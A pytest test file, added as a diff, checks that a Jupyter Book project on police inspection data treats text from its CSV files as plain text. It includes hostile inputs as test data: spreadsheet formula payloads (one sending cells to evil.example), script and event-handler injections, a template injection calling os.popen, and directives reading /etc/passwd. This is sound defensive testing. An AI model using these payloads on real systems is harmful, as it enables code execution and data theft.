@@ -1,0 +1,801 @@
+"""Text from data is text: it never runs, never becomes markup, and never publishes a file."""
+
+import csv
+import html
+import io
+import os
+import re
+import shutil
+import subprocess
+import sys
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from ncpi.__main__ import main
+from ncpi.data import describe, problems
+from tests.stored import BOOK, ROOT, pages
+
+UP = "../" * 12
+SEPARATOR = "\u2028"  # ends a line for whoever parses text, and not for a CSV
+
+#: Commands leave a file here; nothing else makes it.
+MARKER = "HOSTILE_MARKER"
+
+#: A spreadsheet would work these out.
+FORMULAS = {
+    "formula that starts a program": "=cmd|' /C calc'!A0",
+    "formula that sends cells away": '=HYPERLINK("https://evil.example/?"&A1)',
+    "function": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "sum with a plus": "+1+cmd|' /C calc'!A0",
+    "sum with a minus": "-2+3+cmd|' /C calc'!A0",
+}
+#: These hold what can't be seen.
+UNSEEN = {
+    "directive after a line separator": SEPARATOR.join(
+        ["text", "", f"```{{literalinclude}} {UP}etc/passwd", "```"]
+    ),
+    "raw HTML after a line separator": SEPARATOR.join(
+        ["text", "", "```{raw} html", "<script>ran('raw')</script>", "```"]
+    ),
+    "reStructuredText after a paragraph separator": "\u2029".join(
+        ["text", "", "```{eval-rst}", ".. raw:: html", f"   :file: {UP}etc/passwd", "```"]
+    ),
+    "text that runs backwards": "grades \u202e<gnirts>\u202c of cases",
+    "orders to a terminal": "grades \x1b[31mred\x1b]0;title\x07 \x9b2J of cases",
+}
+#: Letters like any others, as far as anybody can see.
+LITERAL = {
+    "script": "<script>ran('script')</script>",
+    "picture that fails": "<img src=missing.png onerror=\"ran('img')\">",
+    "drawing that loads": "<svg onload=\"ran('svg')\"><title>x</title></svg>",
+    "end of a script": "</script><script>ran('end')</script>",
+    "end of an attribute": '" onmouseover="ran(\'over\')" style="position:fixed;inset:0',
+    "end of a cell": "</td></tr></table><iframe srcdoc=\"<script>ran('frame')</script>\"></iframe>",
+    "script in entities": "&lt;script&gt;ran('entities')&lt;/script&gt; &#60;b&#62;",
+    "comment": "a <!-- b --> c <!-- d",
+    "substitution": f"x {{{{ cycler.__init__.__globals__.os.popen('touch ${MARKER}').read() }}}} y",
+    "statement": "{% for x in [1] %}x{% endfor %} and {# nothing #}",
+    "download": f"{{download}}`key <{UP}etc/passwd>`",
+    "include": f"```{{include}} {UP}etc/passwd",
+    "literal include": f":::{{literalinclude}} {UP}etc/passwd",
+    "pasted number": "{glue:text}`good_share` and {eval}`1 + 1`",
+    "link that runs": "[to the report](javascript:ran('link'))",
+    "address that runs": "javascript:ran('address')",
+    "address that is a page": "data:text/html,<script>ran('data')</script>",
+    "picture elsewhere": "![grades](https://evil.example/pixel.gif) <https://evil.example/>",
+    "heading and target": "(sources)= # Sources *and* **others** $x_2$ | `a` | ~~b~~ [^1]",
+    "long token": "W" * 2000,
+}
+HOSTILE = LITERAL | UNSEEN | FORMULAS
+each = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+
+
+def flat(text: str) -> str:
+    """A text without what typesetting changes: quotes, dashes, dots and blanks."""
+    for letters, plain in {"“”": '"', "‘’": "'"}.items():
+        text = re.sub(f"[{letters}]", plain, text)
+    return " ".join(text.replace("—", "---").replace("–", "--").replace("…", "...").split())
+
+
+def rows_of(folder: Path, table: str) -> list[dict[str, str]]:
+    with (folder / f"{table}.csv").open(encoding="utf-8", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def write(folder: Path, table: str, rows: list[dict[str, str]]) -> None:
+    with (folder / f"{table}.csv").open("w", encoding="utf-8", newline="") as file:
+        writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
+        writer.writeheader()
+        writer.writerows(rows)
+
+
+@pytest.fixture
+def data(tmp_path) -> Path:
+    return shutil.copytree(ROOT / "data", tmp_path / "data")
+
+
+# --- what the form of the data lets pass ---------------------------------------------------------
+
+
+def free_text(folder: Path) -> list[tuple[str, str]]:
+    """Columns that may say anything, as far as their form goes."""
+    return [
+        (name, field["name"])
+        for name, table in describe(folder).items()
+        for field in table["schema"]["fields"]
+        if field["type"] == "string"
+        and "categories" not in field
+        and field.get("constraints", {}).get("pattern") == r"\S(.*\S)?"
+    ]
+
+
+def refused(folder: Path, texts: list[str]) -> set[str]:
+    """Those of the texts that ``check`` refuses in a cell which may say anything."""
+    rows = rows_of(folder, "sources")
+    notes = [row["note"] for row in rows]
+    for row, text in zip(rows, texts, strict=False):
+        row["note"] = text
+    named = set()
+    while True:
+        write(folder, "sources", rows)
+        found = problems(folder)
+        if not found:
+            break
+        for problem in found:
+            assert (problem.file, problem.column) == ("sources.csv", "note"), str(problem)
+            named.add(texts[problem.row - 2])
+            rows[problem.row - 2]["note"] = notes[problem.row - 2]
+    for row, note in zip(rows, notes, strict=True):
+        row["note"] = note
+    write(folder, "sources", rows)
+    return named
+
+
+def test_check_refuses_formulas_and_lets_letters_pass(data):
+    assert refused(data, list(FORMULAS.values())) == set(FORMULAS.values())
+    assert refused(data, list(LITERAL.values())) == set()
+
+
+def test_check_refuses_a_formula_in_every_column(data):
+    spoiled = set()
+    for number, (table, column) in enumerate(free_text(data)):
+        rows = rows_of(data, table)
+        # Keys and references have rules of their own, which come first.
+        schema = describe(data)[table]["schema"]
+        keys = {*schema["primaryKey"], *(k["fields"][0] for k in schema.get("foreignKeys", []))}
+        if column in keys:
+            continue
+        rows[number % len(rows)][column] = list(FORMULAS.values())[number % len(FORMULAS)]
+        write(data, table, rows)
+        spoiled.add((f"{table}.csv", column, number % len(rows) + 2))
+    assert len(spoiled) > 20
+    named = {(p.file, p.column, p.row) for p in problems(data) if p.rule == "no formula"}
+    assert named == spoiled
+
+
+def test_numbers_and_dates_are_no_formulas():
+    from ncpi.plain import is_formula
+
+    for cell in ["-3", "+4.5", "-1,234.5", "-12%", "--05", "--11-09", "8/13", "−4.3", "a=b"]:
+        assert not is_formula(cell), cell
+    for cell in [*FORMULAS.values(), "-A1", "--A1", "+", "\t=1", "\r=1", "＝1+1", "-5/8"]:
+        assert is_formula(cell), cell
+
+
+@pytest.mark.parametrize("table", ["figures", "press_claims"])
+def test_a_value_is_a_number_to_its_end(data, table):
+    """Frictionless sets ^ and $ around a form without brackets, so an alternative escapes them."""
+    rows = rows_of(data, table)
+    at = next(at for at, row in enumerate(rows) if row["unit"] == "share")
+    rows[at]["value"] += LITERAL["script"]
+    write(data, table, rows)
+    assert ("value", at + 2) in {(p.column, p.row) for p in problems(data)}
+
+
+@pytest.mark.parametrize(("table", "column"), [("sources", "address"), ("inspections", "page")])
+def test_check_refuses_addresses_that_run(data, table, column):
+    rows = rows_of(data, table)
+    bad = [LITERAL[name] for name in LITERAL if name.startswith("address")]
+    bad += ["//evil.example/", " javascript:ran()", "JAVASCRIPT:ran()", "file:///etc/passwd"]
+    for row, address in zip(rows, bad, strict=False):
+        row[column] = address
+    write(data, table, rows)
+    assert {p.row for p in problems(data) if p.column == column} == set(range(2, len(bad) + 2))
+
+
+# --- how it becomes a page -----------------------------------------------------------------------
+
+
+def test_no_page_is_a_template():
+    """Jupyter Book may turn substitutions on by itself: they run what stands in double braces."""
+    from jupyter_book.config import get_final_config
+
+    config, _ = get_final_config(
+        user_yaml=ROOT / "_config.yml", sourcedir=ROOT, cli_config={"latex_individualpages": False}
+    )
+    assert "colon_fence" in config["myst_enable_extensions"]
+    assert "substitution" not in config["myst_enable_extensions"]
+    assert not config.get("myst_substitutions")
+
+
+class Tags(HTMLParser):
+    """The tags of a piece of HTML with their attributes, and its text."""
+
+    def __init__(self, text: str):
+        super().__init__()
+        self.tags, self.said = [], ""
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data):
+        self.said += data
+
+
+#: What tables consist of.
+TAGS = {"p", "div", "table", "thead", "tbody", "tr", "th", "td"}
+
+
+@pytest.fixture
+def shown(monkeypatch) -> list[dict]:
+    """What `ncpi.display` displays, by media type."""
+    shown = []
+    monkeypatch.setattr("ncpi.display.display", lambda bundle, **_: shown.append(bundle))
+    return shown
+
+
+@each
+def test_a_table_shows_text_as_text(shown, text):
+    from ncpi.display import table
+
+    table(pd.DataFrame({text: [text], "grade": ["good"]}), text)
+    parsed = Tags(shown[0]["text/html"])
+    assert {tag for tag, _ in parsed.tags} <= TAGS
+    allowed = {"class", "role", "tabindex", "aria-label", "scope"}
+    assert {name for _, attributes in parsed.tags for name in attributes} <= allowed
+    assert flat(parsed.said).count(flat(text)) == 3, "as caption, as heading and in a cell"
+
+
+@each
+def test_a_register_shows_text_as_text(shown, text):
+    from ncpi.display import Cell, register_table
+
+    row = {text: [Cell(text, text, text, text)], "a": [text], "b": [Cell("c", link=text)]}
+    register_table(pd.DataFrame(row, index=[text]), text, filters=[text], counts=text)
+    parsed = Tags(shown[0]["text/html"])
+    assert {tag for tag, _ in parsed.tags} <= TAGS | {"small", "a" if text.isalnum() else "td"}
+    allowed = {"class", "aria-label", "scope", "id", "data-counts", "data-table", "data-filter"}
+    allowed |= {"data-label", "data-order", "href" if text.isalnum() else "id"}  # a name is a place
+    assert {name for _, attributes in parsed.tags for name in attributes} <= allowed
+    assert flat(parsed.said).count(flat(text)) == 5
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        *("javascript:ran()", " javascript:ran()", "JaVaScript:ran()", "java\nscript:ran()"),
+        *("\x01javascript:ran()", "data:text/html,x", "vbscript:x", "//evil.example/", "file:///x"),
+        "https:/ /x",
+    ],
+)
+def test_a_cell_leads_nowhere_else(address):
+    from ncpi.display import Cell
+
+    assert "<a" not in Cell("page", link=address).inside()
+
+
+def test_a_cell_leads_to_pages_and_places():
+    from ncpi.display import Cell
+
+    for address in [
+        *("https://example.org/a?b=1&c=%22", "ledger.html#figure-a-1", "#here-a"),
+        "../book/sources.html#hmicfrs-thames-valley-2023",
+    ]:
+        ((tag, attributes),) = Tags(Cell("page", link=address).inside()).tags
+        assert (tag, attributes) == ("a", {"href": address})
+
+
+@each
+def test_an_address_in_a_page_made_from_data_is_a_link_only_by_https(text):
+    from docutils import nodes
+
+    from ncpi.book import link
+
+    assert isinstance(link(text), nodes.Text)
+    assert isinstance(link("http://example.org/"), nodes.Text)
+    assert isinstance(link(f"https://example.org/{text}"), nodes.reference)
+
+
+def test_only_tables_of_the_folder_can_be_downloaded():
+    from ncpi.book import download
+
+    assert download(f"{UP}etc/passwd", "book/data-dictionary")["reftarget"] == "/data/passwd"
+
+
+@each
+def test_the_csv_of_a_chart_starts_no_formula(text):
+    from ncpi.figures import _csv
+
+    said = _csv(["area", "share"], [{"area": text, "share": -0.25}, {"area": "b", "share": "-3"}])
+    (area, share), (_, other) = list(csv.reader(io.StringIO(said)))[1:]
+    assert (share, other) == ("-0.25", "-3"), "numbers stay numbers"
+    assert area[0] not in "=+-@\t\r"
+    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", area)
+
+
+@pytest.mark.parametrize("text", [*LITERAL.values(), *FORMULAS.values()])
+def test_a_chart_shows_text_as_text(text):
+    """As it stands in a page: the drawing, its words, its table and what the scripts read.
+
+    Control characters, which vl-convert can't draw, never get so far: ``check`` refuses them.
+    """
+    import json
+
+    from ncpi.figures import _bare, _in_script, _inline_svg, _picture, _table
+
+    rows = [{"area": text, "share": 0.25}]
+    spec = {
+        "$schema": "https://vega.github.io/schema/vega-lite/v6.json",
+        "title": {"text": [text], "subtitle": [text]},
+        "description": text,
+        "usermeta": {"subtitle": text},
+        "datasets": {"rows": rows},
+        "data": {"name": "rows"},
+        "mark": "bar",
+        "encoding": {
+            "y": {"field": "area", "type": "nominal", "axis": {"labelLimit": 0}},
+            "x": {"field": "share", "type": "quantitative"},
+            "tooltip": {"field": "area", "type": "nominal"},
+        },
+    }
+    drawn = Tags(_inline_svg(spec, "a") + _picture(spec, "a") + _table(["area", "share"], rows))
+    tags = {tag for tag, _ in drawn.tags}
+    assert not tags & {"script", "img", "iframe", "a", "image", "foreignobject", "b", "title"}
+    names = {name for _, attributes in drawn.tags for name in attributes}
+    assert not [name for name in names if name.startswith("on") or name.endswith("href")]
+    script = _in_script(_bare(spec))
+    assert "<" not in script
+    assert json.loads(script)["datasets"]["rows"] == rows
+
+
+# --- what may run in a page ----------------------------------------------------------------------
+
+INLINE = re.compile(r"<script(?![^>]*\ssrc=)([^>]*)>(.*?)</script", re.S | re.I)
+
+
+@pytest.mark.parametrize("address", pages())
+def test_a_page_holds_the_known_scripts_and_no_other(address):
+    import base64
+    import hashlib
+
+    from ncpi.theme import SCRIPTS
+
+    text = (BOOK / address).read_text(encoding="utf-8")
+    inline = [m[2] for m in INLINE.finditer(text) if 'type="application/json"' not in m[1]]
+    prints = [base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() for s in inline]
+    assert set(prints) <= set(SCRIPTS)
+    assert len(prints) == 2 or len(set(prints)) == len(SCRIPTS), "with folds, or without"
+    (policy,) = re.findall(r"script-src ([^;]+)", text)
+    assert policy.split() == ["'self'", *(f"'sha256-{name}'" for name in dict.fromkeys(prints))]
+    files = re.findall(r'<script[^>]*\ssrc="([^"]+)"', text)
+    assert all(re.match(r"(\.\./)*(_static/|searchindex\.js)", file) for file in files)
+    tags = Tags(text).tags
+    assert sum(tag == "script" for tag, _ in tags) == len(files) + text.count("</script>") - len(
+        files
+    ), "none is hidden from this count"
+    assert not [name for _, attributes in tags for name in attributes if name.startswith("on")]
+
+
+#: A page as the templates leave it, less what doesn't matter.
+PAGE = '<!DOCTYPE html><html><head><meta charset="utf-8" /></head><body>{}</body></html>'
+
+
+@pytest.mark.parametrize(
+    "foreign",
+    [
+        "<script>ran()</script>",
+        "<SCRIPT\n>ran()</SCRIPT >",
+        '<script type="module">ran()</script>',
+        '<script type="text/javascript" data-x="">ran()</script>',
+        '<script src="https://evil.example/x.js"></script>',
+        '<script src="../_downloads/0/sources.csv"></script>',
+        '<script src="../_static/../_downloads/0/x.js"></script>',
+        "<svg><script>ran()</script></svg>",
+        '<p onclick="ran()">x</p>',
+        "<svg/onload=ran()>",
+        "<img src=x OnError=ran()>",
+        '<a href="javascript:ran()">x</a>',
+        '<a href=" java&#10;script&colon;ran()">x</a>',
+        '<svg><a xlink:href="JavaScript:ran()">x</a></svg>',
+        '<form action="javascript:ran()"></form>',
+        '<iframe srcdoc="x"></iframe>',
+        '<meta http-equiv="Refresh" content="0; url=https://evil.example/">',
+    ],
+)
+def test_a_page_with_anything_else_that_runs_stops_the_build(tmp_path, foreign):
+    from sphinx.errors import ExtensionError
+
+    from ncpi.theme import set_policy
+
+    page = tmp_path / "sources.html"
+    page.write_text(PAGE.format(foreign), encoding="utf-8")
+    with pytest.raises(ExtensionError, match=r"sources\.html holds what is not the book's own"):
+        set_policy(page)
+    assert page.read_text(encoding="utf-8") == PAGE.format(foreign)
+
+
+def test_text_that_looks_like_a_script_stops_nothing(tmp_path):
+    from ncpi.theme import set_policy
+
+    page = tmp_path / "sources.html"
+    said = "".join(
+        f'<p title="{html.escape(text)}" data-order="{html.escape(text)}">{html.escape(text)}</p>'
+        for text in LITERAL.values()
+    )
+    data = '<script type="application/json">{"a": "javascript:ran()"}</script>'
+    page.write_text(PAGE.format(said + data), encoding="utf-8")
+    set_policy(page)
+    policy = re.search(r"script-src ([^;]*);", page.read_text(encoding="utf-8"))
+    assert policy[1] == "'self'"
+
+
+# --- saved pages ---------------------------------------------------------------------------------
+
+GRADINGS = (
+    "Inspectors examined 24 cases. Of these, 6 were good, 10 required improvement and "
+    "8 were inadequate."
+)
+
+
+def saved(folder: Path, text: str, address: str) -> Path:
+    """A page as somebody may save it, which says the text wherever a page says anything."""
+    said = html.escape(text).replace("\x1b", "&#27;").replace("\x9b", "\x9b")
+    page = folder / "saved.html"
+    page.write_text(
+        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{said}</title>'
+        f'<link rel="canonical" href="{html.escape(address)}">'
+        f'<meta property="og:site_name" content="{said}"></head><body><h1>{said}</h1>'
+        f"<h2>Contents</h2><ol><li>{said}</li></ol><h2>{said}</h2><p>{GRADINGS}</p>"
+        f"<p>{said}</p><table><tr><td>{said}</td></tr></table></body></html>",
+        encoding="utf-8",
+    )
+    return page
+
+
+def assert_plain(said: str) -> None:
+    """Nothing in it that a terminal obeys, or that an eye can't see."""
+    assert not re.search(r"[^\S\n\t ]|[\x00-\x08\x0b-\x1f\x7f-\x9f]", said.replace("\xa0", " "))
+    assert not re.search("[\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]", said)
+
+
+def assert_no_formula(said: str) -> None:
+    for row in csv.reader(io.StringIO(said)):
+        assert not [cell for cell in row if cell[:1] in tuple("=+-@\t\r")]
+
+
+@each
+def test_extract_prints_text_and_no_formula(tmp_path, capsys, monkeypatch, text):
+    page = saved(tmp_path, text, "https://evil.example/")
+    monkeypatch.setattr(sys, "argv", ["ncpi", "extract", str(page)])
+    main()
+    out, err = capsys.readouterr()
+    assert "10" in out
+    assert_plain(out + err)
+    assert_no_formula(out)
+
+
+@each
+def test_the_review_of_fetched_pages_is_text_and_no_formula(tmp_path, text):
+    """From the cache, so that no host is asked; and from a host whose answer says the text."""
+    import hashlib
+
+    from ncpi.fetch import NotFetchedError, review
+
+    def failing(address, file, _):
+        raise NotFetchedError(text)
+
+    kept = "https://evil.example/kept"
+    digest = hashlib.sha256(kept.encode()).hexdigest()[:8]
+    page = saved(tmp_path, text, kept).rename(tmp_path / f"kept-{digest}.html")
+    page.with_suffix(".sha256").write_text(hashlib.sha256(page.read_bytes()).hexdigest())
+    listed = pd.DataFrame({"id": ["a", "b"], "page": [kept, "https://evil.example/gone"]})
+    found = review(listed, tmp_path, failing)
+    assert found["cases"].eq(10).any()
+    assert found["outcome"].tolist()[-1] == "failed"
+    said = found.to_csv(index=False)
+    assert_plain(said)
+    assert_no_formula(said)
+
+
+@each
+def test_what_add_takes_from_a_page_is_plain(tmp_path, text):
+    from ncpi.add import _source
+
+    page = saved(tmp_path, text, f"https://evil.example/{text}")
+    given = dict.fromkeys(["source", "publisher", "address"])
+    row = _source(page, "wiltshire-2022", [], given)
+    assert_plain("".join(row.values()))
+    if text in LITERAL.values():
+        assert row["title"] == row["publisher"] == text
+    assert not row["address"].startswith("javascript:")
+
+
+# --- the whole way: into a copy of the data, through the notebooks, to a reader ------------------
+
+#: Columns that only repeat what stands in another table, or name a row of this one.
+NAMES = {("areas", "id"), *((table, "figure") for table in ["case_gradings", "case_totals"])}
+NAMES |= {(table, "figure") for table in ["listed", "ofsted_judgments", "recommendations"]}
+NAMES |= {("timelines", "figure")}
+
+
+class Spoiled:
+    """A copy of the data whose texts are replaced; it notes which columns these were."""
+
+    def __init__(self, folder: Path, texts: list[str]):
+        self.folder, self.texts, self.columns = folder, texts, set()
+
+    def fill(self, table: str, *columns: str, where=lambda row: True) -> None:
+        """Put all texts into columns, one a row, or several where there are fewer rows."""
+        rows = rows_of(self.folder, table)
+        chosen = [row for row in rows if where(row)][: len(self.texts)]
+        for column in columns:
+            for at, row in enumerate(chosen):
+                row[column] = " ¶ ".join(self.texts[at :: len(chosen)])
+            self.columns.add((table, column))
+        write(self.folder, table, rows)
+
+    def append(self, table: str, row: dict[str, str], *columns: str) -> None:
+        """A row for each text, like ``row``; a ``#`` in it becomes the text's number."""
+        rows = rows_of(self.folder, table)
+        for at, text in enumerate(self.texts):
+            new = {name: value.replace("#", str(at)) for name, value in row.items()}
+            rows.append(rows[-1] | new | dict.fromkeys(columns, text))
+        self.columns |= {(table, column) for column in columns}
+        write(self.folder, table, rows)
+
+
+def spoil(folder: Path, texts: list[str]) -> None:
+    """Put every text into every text column of every table."""
+    data = Spoiled(folder, texts)
+
+    def without_figure(row):
+        return row["figure"] == "not applicable"
+
+    gap = "not applicable"
+    data.fill("sources", "title", "publisher", "licence", "note")
+    data.fill("forces", "name", "short_name", where=lambda row: row["id"] != "thames-valley")
+    data.fill("inspections", "note")
+    data.fill("areas", "name", "covers")
+    for table in ["case_gradings", "case_totals"]:
+        data.fill(table, "note")
+        data.fill(table, "locator", where=without_figure)
+    data.fill("case_printings", "note")
+    data.fill("case_printings", "area", where=lambda row: row["area"] != "all areas")
+    data.fill("figures", "subject", where=lambda row: row["status"] != "no figure")
+    data.fill("figures", "remark", where=lambda row: row["remark"] != gap)
+    numeral = {"id": gap, "occurrence": "1", "status": "no figure", "value": gap, "unit": gap}
+    numeral |= {"qualifier": gap, "subject": gap, "verdict": gap}
+    data.append("figures", numeral, "locator", "printed", "remark")
+    data.fill("press_claims", "subject", "note")
+    day = {"id": "hostile-#", "inspection": "thames-valley-2023", "value": "2023-11-07"}
+    day |= {"unit": "date", "qualifier": "exact", "about": "published", "base_cases": gap}
+    data.append("press_claims", day, "printed", "subject", "note")
+    data.fill("ofsted_judgments", "local_authority")
+    data.fill("listed", "item", "group", "locator")
+    data.fill("timelines", "event", "counted_from")
+    data.fill("recommendations", "subject", "locator")
+    data.fill("topic_judgments", "note")
+    references = {
+        (name, key["fields"][0])
+        for name, table in describe(folder).items()
+        for key in table["schema"].get("foreignKeys", [])
+    }
+    assert data.columns == set(free_text(folder)) - references - NAMES
+    # Addresses may hold anything but blanks, after their beginning.
+    for table, column in [("sources", "address"), ("inspections", "page")]:
+        rows = rows_of(folder, table)
+        for row, text in zip(reversed(rows), texts, strict=False):
+            row[column] = "https://example.org/" + re.sub(r"\s", "", text)
+        write(folder, table, rows)
+
+
+def add_pages(data: Path, folder: Path) -> list[str]:
+    """Add a saved page for each text, which says it wherever a page can; returns the titles."""
+    from ncpi.add import NotAddedError, add
+
+    graded = {row["inspection"] for row in rows_of(data, "case_gradings")}
+    visits = [row["id"] for row in rows_of(data, "inspections") if row["kind"] == "return visit"]
+    visits = [visit for visit in visits if visit not in graded]
+    titles = []
+    for visit, (name, text) in zip(visits, HOSTILE.items(), strict=False):
+        address = f"https://example.org/{visit}/{re.sub(r'[^!-~]', '', text)}"
+        page = saved(folder, text, address)
+        given = {"inspection": visit, "source": f"saved-{visit}"}
+        refusal, before = "", rows_of(data, "sources")
+        try:
+            add(page, data, given | dict.fromkeys(["publisher", "address"]))
+        except NotAddedError as error:
+            refusal = str(error)
+        assert ("no formula" in refusal) == (name in FORMULAS), f"{name}: {refusal}"
+        if refusal:
+            assert rows_of(data, "sources") == before
+        else:
+            titles.append(rows_of(data, "sources")[-1]["title"])
+            assert_plain(titles[-1])
+    assert len(titles) == len(LITERAL) + len(UNSEEN)
+    return titles
+
+
+def command(folder: Path, *words: str, **environment: str) -> subprocess.CompletedProcess:
+    """What a command gives, run in a folder."""
+    environment = os.environ | environment
+    return subprocess.run(
+        words, cwd=folder, env=environment, capture_output=True, text=True, check=False
+    )
+
+
+def build(folder: Path, **environment: str) -> subprocess.CompletedProcess:
+    """A book built as the Makefile builds it."""
+    tool = str(Path(sys.executable).with_name("jupyter-book"))
+    options = ["--quiet", "-W", "-n", "--keep-going"]
+    return command(folder, tool, "build", *options, ".", **environment)
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """A book built from such data: its folder, and the texts that must be read in it."""
+    home = tmp_path_factory.mktemp("hostile")
+    project = home / "project"
+    for folder in ["book", "data", "notebooks", "src", "verification"]:
+        shutil.copytree(ROOT / folder, project / folder)
+    for file in ["_config.yml", "_toc.yml", "index.md", "requirements.txt"]:
+        shutil.copy(ROOT / file, project)
+    (project / "node_modules").symlink_to(ROOT / "node_modules")
+    data = project / "data"
+    added = add_pages(data, home)
+    unseen = set(UNSEEN.values()) - refused(data, list(UNSEEN.values()))
+    spoil(data, list(LITERAL.values()))
+    rows = rows_of(data, "sources")
+    for row in rows[-len(added) :]:  # the ledger takes five documents for all that were read
+        row["sha256"] = "not seen"
+    for at, text in enumerate(unseen):  # what the data's form doesn't refuse must do no harm
+        rows.append(rows[-1] | {"id": f"unseen-{at}", "title": text, "note": text})
+    write(data, "sources", rows)
+    assert problems(data) == []
+    environment = {MARKER: str(home / "marker")}
+    notebooks = ["press-claims", "national-picture", "ledger"]
+    files = [f"notebooks/{name}.ipynb" for name in notebooks]
+    for done in [
+        command(project, sys.executable, "-m", "ncpi", "run", "--all", *files, **environment),
+        build(project, **environment),
+    ]:
+        assert done.returncode == 0, (done.stdout + done.stderr)[-5000:]
+    assert not (home / "marker").exists(), "a command was run"
+    return project / "_build" / "html", [*added, *unseen]
+
+
+@pytest.mark.slow
+def test_nothing_is_published_beside_the_book(hostile):
+    book, _ = hostile
+
+    def published(folder):
+        return {file.relative_to(folder) for file in folder.rglob("*") if file.is_file()}
+
+    def names(folder):
+        """Files as they are called whatever is in them."""
+        return {re.sub(r"\.[0-9a-f]{64}(?=\.)", "", str(file)) for file in published(folder)}
+
+    assert names(book) == names(BOOK)
+    secret = Path("/etc/passwd").read_bytes().splitlines()[0]
+    assert not [file for file in published(book) if secret in (book / file).read_bytes()]
+
+
+@pytest.mark.slow
+def test_what_can_be_taken_away_is_harmless(hostile):
+    from lxml import etree
+
+    book, _ = hostile
+    for file in [*book.glob("charts/*.csv"), *book.glob("_downloads/*/*.csv")]:
+        for row in csv.reader(io.StringIO(file.read_text(encoding="utf-8"), newline="")):
+            for cell in row:
+                number = re.fullmatch(r"[-+]?[\d.,]+%?|--\d\d(-\d\d)?", cell)
+                assert number or cell[:1] not in tuple("=+-@\t\r"), file.name
+    for file in book.glob("charts/*.svg"):
+        tags = {etree.QName(part).localname for part in etree.parse(file).iter(etree.Element)}
+        assert tags <= {
+            "svg",
+            "g",
+            "path",
+            "rect",
+            "text",
+            "line",
+            "defs",
+            "clipPath",
+            "title",
+            "tspan",
+        }
+        names = {name for part in etree.parse(file).iter(etree.Element) for name in part.attrib}
+        assert not [name for name in names if name.startswith("on") or name.endswith("href")]
+
+
+#: Where all of the texts must be read.
+SHOWN = [
+    "book/sources.html",
+    "notebooks/ledger.html",
+    "notebooks/national-picture.html",
+    "notebooks/press-claims.html",
+]
+
+#: What must be nowhere in a page, whatever its data say.
+HARM = r"""() => {
+    const leads = /^(href|src|action|xlink:href)$/;
+    const harm = /^(javascript|vbscript|file):|^(https?:)?\/\/evil|missing\.png$/i;
+    const bad = ({ name, value }) => name.startsWith("on") ||
+        (leads.test(name) && harm.test(value.replace(/[\x00-\x20]/g, "")));
+    const everything = [...document.querySelectorAll("*")];
+    return [
+        ...everything.flatMap(({ attributes }) => [...attributes].filter(bad)),
+        ...document.querySelectorAll("iframe, object, embed, base"),
+    ].map((part) => part.outerHTML ?? `${part.name}="${part.value}"`).concat(window.hostile ?? []);
+}"""
+
+
+def live(page) -> None:
+    """Use a page as a reader does: every fold, chart and table of it."""
+    page.evaluate("for (const fold of document.querySelectorAll('details')) fold.open = true")
+    for chart in page.locator(".ncpi-chart:has(.ncpi-chart-spec) .ncpi-chart-picture").all():
+        chart.scroll_into_view_if_needed()
+        chart.hover()
+        chart.locator("xpath=ancestor::figure[@data-live='yes']").wait_for()
+        box = chart.bounding_box()
+        for at in range(1, 10):
+            page.mouse.move(box["x"] + box["width"] * at / 10, box["y"] + box["height"] * at / 10)
+    for table in page.locator("table[data-table]").all():
+        table.scroll_into_view_if_needed()
+        table.locator("xpath=ancestor::div[contains(@class, 'dt-container')]").wait_for()
+    for search in page.get_by_role("searchbox").all():
+        if search.is_visible():
+            search.fill('<img src=x onerror="')
+
+
+@pytest.mark.slow
+def test_a_reader_sees_text_and_nothing_runs(hostile, chromium):
+    from tests.browser import served
+    from tests.test_book import watch
+
+    book, further = hostile
+    addresses = [path.relative_to(book).as_posix() for path in book.rglob("*.html")]
+    addresses = sorted(path for path in addresses if not path.startswith("_static/"))
+    assert set(SHOWN) < set(addresses)
+    with served(book) as site:
+        context = chromium.new_context()
+        context.add_init_script("window.ran = (what) => (window.hostile ??= []).push(what)")
+        for address in addresses:
+            page = context.new_page()
+            found = watch(page, site)
+            page.on(
+                "dialog", lambda dialog, found=found: (found.append("dialog"), dialog.dismiss())
+            )
+            page.goto(site + address)
+            page.wait_for_load_state("networkidle")
+            said = flat(page.evaluate("document.body.textContent"))
+            if address in SHOWN:
+                texts = LITERAL.values()
+                if address == "book/sources.html":
+                    texts = [*texts, *further]
+                assert [text for text in texts if flat(text) not in said] == [], address
+            live(page)
+            assert page.evaluate(HARM) == [], address
+            assert len(page.frames) == 1
+            assert found == [], address
+            page.close()
+        page = context.new_page()
+        found = watch(page, site)
+        page.goto(f"{site}search.html?q=onerror")
+        results = page.locator("#search-results li")
+        results.first.wait_for()
+        assert flat(LITERAL["picture that fails"]) in flat(" ".join(results.all_text_contents()))
+        assert page.evaluate(HARM) == []
+        assert found == []
+        context.close()
+
+
+@pytest.mark.slow
+def test_a_script_in_a_page_stops_the_build(tmp_path):
+    for file in ["_config.yml", "index.md", "book", "node_modules", "notebooks", "data"]:
+        (tmp_path / file).symlink_to(ROOT / file)
+    shutil.copy(ROOT / "_toc.yml", tmp_path)
+    (tmp_path / "foreign.md").write_text(
+        "# Foreign\n\nA page with a script of its own.\n\n<script>ran()</script>\n"
+    )
+    with (tmp_path / "_toc.yml").open("a") as toc:
+        toc.write("      - file: foreign\n")
+    run = build(tmp_path)
+    assert run.returncode != 0
+    said = re.sub(r"\s+", " ", run.stdout + run.stderr)
+    assert "foreign.html holds what is not the book's own: the script 'ran()'" in said
